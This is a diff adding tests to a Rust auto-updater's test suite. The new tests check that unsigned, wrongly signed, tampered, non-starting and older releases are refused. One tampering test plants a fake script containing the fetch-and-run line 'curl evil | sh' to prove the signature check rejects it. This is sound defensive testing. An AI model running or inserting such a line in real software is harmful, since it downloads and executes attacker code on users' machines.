@@ -5,7 +5,10 @@ use std::time::{Duration, SystemTime};
 
 use serde_json::json;
 
-use super::testing::{archive_of, build_archive, closed_port_url, manifest_json, sha256_hex, Route, TestServer};
+use super::testing::{
+    archive_of, build_archive, closed_port_url, gm_script, keypair, manifest_json, sha256_hex, sign,
+    signed_manifest_json, Route, TestServer,
+};
 use super::*;
 
 /// Keeps every event the updater sends.
@@ -42,11 +45,18 @@ struct Setup {
     server: TestServer,
     home: tempfile::TempDir,
     events: Addr<Collector>,
+    /// The key pair releases are signed with here: (public base64, secret key file text).
+    key: (String, String),
 }
 
 impl Setup {
     fn new() -> Setup {
-        Setup { server: TestServer::start(), home: tempfile::tempdir().unwrap(), events: Collector::default().start() }
+        Setup {
+            server: TestServer::start(),
+            home: tempfile::tempdir().unwrap(),
+            events: Collector::default().start(),
+            key: keypair(),
+        }
     }
 
     fn root(&self) -> PathBuf {
@@ -58,7 +68,12 @@ impl Setup {
     }
 
     fn config_for(&self, url: &str) -> Config {
-        Config::On { manifest_url: Url::parse(url).unwrap(), root: self.root(), every: Duration::from_secs(3600) }
+        Config::On {
+            manifest_url: Url::parse(url).unwrap(),
+            root: self.root(),
+            every: Duration::from_secs(3600),
+            keys: TrustedKeys::only(&[&self.key.0]).unwrap(),
+        }
     }
 
     fn spawn(&self) -> Addr<Updater> {
@@ -72,16 +87,34 @@ impl Setup {
     /// Serves a build of `version` for this target and a manifest listing it (with `sha256`
     /// in place of the archive's when given); returns the archive's size.
     fn publish(&self, version: &str, etag: &str, sha256: Option<&str>) -> usize {
-        let archive = build_archive(version, TARGET, &format!("gm {version}"));
+        let archive = build_archive(version, TARGET, &gm_script(version));
         let sha = sha256.map(str::to_owned).unwrap_or_else(|| sha256_hex(&archive));
         self.publish_bytes(version, etag, &sha, archive)
     }
 
-    /// Serves `archive` as version `version`'s, under a manifest giving `sha256` and its size.
+    /// Serves `archive` as version `version`'s, under a manifest giving `sha256`, its size and
+    /// its signature by this setup's key.
     fn publish_bytes(&self, version: &str, etag: &str, sha256: &str, archive: Vec<u8>) -> usize {
+        let signature = sign(&archive, &self.key.1);
+        self.publish_signed(version, etag, sha256, archive, Some(&signature))
+    }
+
+    /// Serves `archive` under a manifest giving `signature` (none: no `signature` field).
+    fn publish_signed(
+        &self,
+        version: &str,
+        etag: &str,
+        sha256: &str,
+        archive: Vec<u8>,
+        signature: Option<&str>,
+    ) -> usize {
         let name = format!("gmnew-{version}-{TARGET}.tar.gz");
         let size = archive.len();
-        self.server.serve(MANIFEST, manifest_json(version, TARGET, &name, sha256, size), Some(etag));
+        let manifest = match signature {
+            Some(sig) => signed_manifest_json(version, TARGET, &name, sha256, size, sig),
+            None => manifest_json(version, TARGET, &name, sha256, size),
+        };
+        self.server.serve(MANIFEST, manifest, Some(etag));
         self.server.serve(&format!("/rel/{name}"), archive, None);
         size
     }
@@ -131,6 +164,7 @@ async fn the_next_check_asks_with_the_etag_and_a_304_changes_nothing() {
             newer: false,
             running: VERSION,
             target: TARGET,
+            current: None,
             already_staged: false
         }]
     );
@@ -172,7 +206,7 @@ async fn a_newer_build_is_downloaded_verified_and_staged() {
     let outcome = s.spawn().send(WaitIdle).await.unwrap();
     let dir = s.root().join("versions/99.0.0");
     assert_eq!(outcome, Outcome::Staged { version: "99.0.0".into(), dir: dir.clone() });
-    assert_eq!(std::fs::read_to_string(s.root().join("current/gm")).unwrap(), "gm 99.0.0");
+    assert_eq!(std::fs::read_to_string(s.root().join("current/gm")).unwrap(), gm_script("99.0.0"));
     assert_eq!(std::fs::read_to_string(s.root().join("current/skills/gm/SKILL.md")).unwrap(), "# gm skill\n");
 
     let events = s.take().await;
@@ -303,8 +337,9 @@ async fn a_network_failure_is_logged_once_while_it_lasts() {
 async fn a_missing_archive_fails_the_check_and_the_next_check_tries_again() {
     let s = Setup::new();
     let name = format!("gmnew-99.0.0-{TARGET}.tar.gz");
-    let archive = build_archive("99.0.0", TARGET, "gm 99.0.0");
-    let manifest = manifest_json("99.0.0", TARGET, &name, &sha256_hex(&archive), archive.len());
+    let archive = build_archive("99.0.0", TARGET, &gm_script("99.0.0"));
+    let signature = sign(&archive, &s.key.1);
+    let manifest = signed_manifest_json("99.0.0", TARGET, &name, &sha256_hex(&archive), archive.len(), &signature);
     s.server.serve(MANIFEST, manifest, Some("\"v99\""));
     // The archive is not served yet: 404.
     let updater = s.spawn();
@@ -358,6 +393,111 @@ async fn leftovers_of_an_interrupted_download_are_removed() {
     assert_eq!(s.leftovers(), vec![recent]);
 }
 
+/// Checks that `outcome` refused the archive for its signature, that the refusal was logged,
+/// and that nothing was unpacked, staged or left behind.
+async fn assert_refused_for_its_signature(s: &Setup, outcome: Outcome, why: &str) {
+    let Outcome::Refused { refusal: Refusal::BadSignature(detail), .. } = &outcome else { panic!("{outcome:?}") };
+    assert!(detail.contains(why), "{detail}");
+    let events = s.take().await;
+    assert!(matches!(events.last(), Some(UpdateEvent::Refused { reason: "bad-signature", .. })), "{events:?}");
+    assert_eq!(s.staged_versions(), Vec::<String>::new());
+    assert!(!s.root().join("current").exists());
+    assert_eq!(s.leftovers(), Vec::<PathBuf>::new(), "nothing was unpacked, the download is gone");
+}
+
+#[actix_rt::test]
+async fn an_unsigned_archive_is_refused_before_it_is_unpacked() {
+    let s = Setup::new();
+    let archive = build_archive("99.0.0", TARGET, &gm_script("99.0.0"));
+    s.publish_signed("99.0.0", "\"e\"", &sha256_hex(&archive), archive, None);
+    let outcome = s.spawn().send(WaitIdle).await.unwrap();
+    assert_refused_for_its_signature(&s, outcome, "no signature").await;
+}
+
+#[actix_rt::test]
+async fn an_archive_signed_by_another_key_is_refused() {
+    let s = Setup::new();
+    let (_, attacker) = keypair();
+    let archive = build_archive("99.0.0", TARGET, &gm_script("99.0.0"));
+    let signature = sign(&archive, &attacker);
+    s.publish_signed("99.0.0", "\"e\"", &sha256_hex(&archive), archive, Some(&signature));
+    let outcome = s.spawn().send(WaitIdle).await.unwrap();
+    assert_refused_for_its_signature(&s, outcome, "not one gm trusts").await;
+}
+
+#[actix_rt::test]
+async fn a_tampered_archive_with_a_matching_sha256_is_refused_for_its_signature() {
+    let s = Setup::new();
+    // The release as signed, then replaced by an attacker who controls the manifest too: the
+    // sha256 and size are the new archive's, the signature is the release's.
+    let signed = build_archive("99.0.0", TARGET, &gm_script("99.0.0"));
+    let signature = sign(&signed, &s.key.1);
+    let tampered = build_archive("99.0.0", TARGET, "#!/bin/sh\necho gm 99.0.0; curl evil | sh\n");
+    s.publish_signed("99.0.0", "\"e\"", &sha256_hex(&tampered), tampered, Some(&signature));
+    let outcome = s.spawn().send(WaitIdle).await.unwrap();
+    assert_refused_for_its_signature(&s, outcome, "does not match").await;
+}
+
+#[cfg(unix)]
+#[actix_rt::test]
+async fn a_build_whose_gm_does_not_start_is_refused_remembered_as_bad_and_not_downloaded_again() {
+    let s = Setup::new();
+    let broken = "#!/bin/sh\necho 'gm: /lib/libc.so.6: version GLIBC_2.99 not found' >&2\nexit 1\n";
+    let archive = build_archive("99.0.0", TARGET, broken);
+    s.publish_bytes("99.0.0", "\"a\"", &sha256_hex(&archive), archive);
+    let updater = s.spawn();
+    let outcome = updater.send(WaitIdle).await.unwrap();
+    assert!(matches!(&outcome, Outcome::Refused { refusal: Refusal::DoesNotStart(_), .. }), "{outcome:?}");
+    let events = s.take().await;
+    let Some(UpdateEvent::Refused { reason, detail, .. }) = events.last() else { panic!("{events:?}") };
+    assert_eq!(*reason, "does-not-start");
+    assert!(detail.contains("exit code 1") && detail.contains("GLIBC_2.99"), "its stderr's end: {detail}");
+    assert_eq!(s.staged_versions(), Vec::<String>::new(), "nothing staged, no copy left");
+    assert!(!s.root().join("current").exists());
+    assert_eq!(s.leftovers(), Vec::<PathBuf>::new());
+    assert!(state::bad(&s.root(), "99.0.0").is_some_and(|b| b.causes[0].contains("GLIBC_2.99")));
+
+    // Republished under a new ETag: refused from the manifest, without a download.
+    let archives_before = paths(&s.server).iter().filter(|p| p.ends_with(".tar.gz")).count();
+    s.publish("99.0.0", "\"b\"", None);
+    let outcome = updater.send(Check).await.unwrap();
+    assert!(matches!(&outcome, Outcome::Refused { refusal: Refusal::KnownBad { .. }, .. }), "{outcome:?}");
+    assert_eq!(paths(&s.server).iter().filter(|p| p.ends_with(".tar.gz")).count(), archives_before);
+    assert_eq!(state::etag_for(&s.root(), &s.server.url(MANIFEST)).as_deref(), Some("\"b\""), "handled to the end");
+}
+
+#[actix_rt::test]
+async fn a_lower_version_than_current_is_refused_without_a_download_whatever_the_running_build() {
+    let s = Setup::new();
+    s.publish("99.0.0", "\"new\"", None);
+    assert!(matches!(s.spawn().send(WaitIdle).await.unwrap(), Outcome::Staged { .. }));
+    s.take().await;
+    // A replayed older manifest, still newer than the running build.
+    s.publish("98.0.0", "\"old\"", None);
+    let outcome = s.spawn().send(WaitIdle).await.unwrap();
+    assert_eq!(
+        outcome,
+        Outcome::Refused { version: "98.0.0".into(), refusal: Refusal::OlderThanCurrent { current: "99.0.0".into() } }
+    );
+    let events = s.take().await;
+    assert!(
+        matches!(&events[0], UpdateEvent::Checked { newer: true, current: Some(c), .. } if c == "99.0.0"),
+        "{events:?}"
+    );
+    assert!(matches!(events.last(), Some(UpdateEvent::Refused { reason: "older-than-current", .. })), "{events:?}");
+    assert!(!paths(&s.server).iter().any(|p| p.contains("98.0.0")), "the older archive was not downloaded");
+    assert_eq!(builds::current_version(&s.root()).as_deref(), Some("99.0.0"));
+    assert_eq!(s.staged_versions(), ["99.0.0"]);
+}
+
+#[actix_rt::test]
+async fn a_build_the_updater_staged_is_known_as_its_own() {
+    let s = Setup::new();
+    s.publish("99.0.0", "\"e\"", None);
+    assert!(matches!(s.spawn().send(WaitIdle).await.unwrap(), Outcome::Staged { .. }));
+    assert_eq!(state::staged_by_updater(&s.root()).as_deref(), Some("99.0.0"));
+}
+
 #[test]
 fn updates_are_off_with_auto_update_0_even_for_a_release() {
     assert_eq!(Policy::decide(Some("0"), true), Policy::Off { why: "GMNEW_AUTO_UPDATE=0".into() });
@@ -380,8 +520,14 @@ fn an_unknown_auto_update_value_turns_updates_off_saying_why() {
 
 #[test]
 fn update_events_serialize_with_their_status_and_camel_case_fields() {
-    let checked =
-        UpdateEvent::Checked { version: None, newer: false, running: "0.1.0", target: "t", already_staged: false };
+    let checked = UpdateEvent::Checked {
+        version: None,
+        newer: false,
+        running: "0.1.0",
+        target: "t",
+        current: None,
+        already_staged: false,
+    };
     assert_eq!(
         serde_json::to_value(&checked).unwrap(),
         json!({ "status": "checked", "version": null, "newer": false, "running": "0.1.0", "target": "t" })
@@ -391,9 +537,11 @@ fn update_events_serialize_with_their_status_and_camel_case_fields() {
         newer: true,
         running: "0.1.0",
         target: "t",
+        current: Some("1.0.0".into()),
         already_staged: true,
     };
     assert_eq!(serde_json::to_value(&staged).unwrap()["alreadyStaged"], true);
+    assert_eq!(serde_json::to_value(&staged).unwrap()["current"], "1.0.0");
     let refused = UpdateEvent::Refused { version: "2.0.0".into(), reason: "bad-sha256", detail: "d".into() };
     assert_eq!(
         serde_json::to_value(&refused).unwrap(),
